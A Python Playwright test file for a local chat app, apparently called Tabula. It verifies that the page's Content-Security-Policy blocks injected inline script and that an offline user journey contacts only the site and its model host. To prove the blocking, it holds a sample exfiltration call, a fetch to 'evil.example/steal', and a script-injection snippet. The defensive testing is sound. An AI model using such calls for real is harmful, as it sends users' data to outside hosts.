"""The promise "your data never leaves your device", proved in real Chromium: the page's
Content-Security-Policy blocks inline script and unlisted hosts, and a whole local-mode journey
(boot, download a model, chat, export, settings, offline) talks only to the site and the model
host it was told to use."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import expect

from tests.browser.chatting import ENGINE_TIMEOUT_MS, open_chat, save_settings, send, wait_final
from tests.browser.conftest import Journey, wait_ready
from tests.browser.downloading import TINY, card, installed_with_tiny
from tests.browser.test_chat_files import export

INLINE = """() => new Promise((done) => {
  document.addEventListener('securitypolicyviolation', (e) => done(e.violatedDirective), {once: true});
  const script = document.createElement('script');
  script.textContent = 'window.__ran = true';
  document.body.append(script);
})"""
FETCH_AWAY = "fetch('http://evil.example/steal?x=1').then(() => 'sent', () => 'blocked')"


def directives(policy: str) -> dict[str, list[str]]:
    pairs = (part.split() for part in policy.split(";") if part.strip())
    return {name: values for name, *values in pairs}


def test_the_security_policy_blocks_inline_script_and_unlisted_hosts(
    tiny_site: Path, serve, journey: Journey
) -> None:
    """Even if something slipped past the sanitizer, an injected script would not run and a
    request to a host the site did not list would not be made."""
    page = journey.page
    open_chat(page, serve(tiny_site).url)
    policy = directives(page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content"))
    assert policy["default-src"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert "'unsafe-inline'" not in policy["script-src"] and "'self'" in policy["script-src"]
    assert policy["style-src"] == ["'self'"]
    assert "https://huggingface.co" in policy["connect-src"] and "*" not in policy["connect-src"]
    assert page.evaluate(INLINE).startswith("script-src")
    assert page.evaluate("window.__ran === undefined")
    assert page.evaluate(FETCH_AWAY) == "blocked"
    assert journey.allow("Content Security Policy") >= 2
    assert not [url for url in journey.requests if "evil.example" in url]


def test_a_whole_local_journey_talks_only_to_the_site_and_its_model_host(
    tmp_path: Path, files: dict[str, Path], serve, journey: Journey
) -> None:
    """A health worker installs Tabula, downloads a model, chats, exports the chat, changes a
    setting and goes offline: every request goes to the site or the model host, nowhere else."""
    page = journey.page
    server, site = installed_with_tiny(tmp_path, files, serve, page)
    page.get_by_role("link", name="Chat", exact=True).click()
    expect(page.get_by_role("status", name="Engine")).to_have_text("Ready", timeout=ENGINE_TIMEOUT_MS)
    assert wait_final(send(page, "My patient has a fever")) == "done"
    assert "My patient has a fever" in export(page, "all", "json")
    save_settings(page, temperature="0.5")
    page.context.set_offline(True)
    page.reload()
    wait_ready(page)
    page.get_by_role("link", name="Models", exact=True).click()
    expect(card(page, TINY).locator(".stored")).to_have_text("On this device · works offline")
    page.get_by_role("link", name="Chat", exact=True).click()
    expect(page.get_by_role("status", name="Engine")).to_have_text("Ready", timeout=ENGINE_TIMEOUT_MS)
    assert wait_final(send(page, "Still here offline?")) == "done"
    page.context.set_offline(False)
    server.stop()
    allowed = {urlsplit(site.url).netloc, urlsplit(server.url("tiny.task")).netloc}
    places = {urlsplit(url).netloc for url in journey.requests if not url.startswith(("data:", "blob:"))}
    assert places <= allowed, places - allowed
    assert len(journey.requests) > 20  # the recorder saw the journey
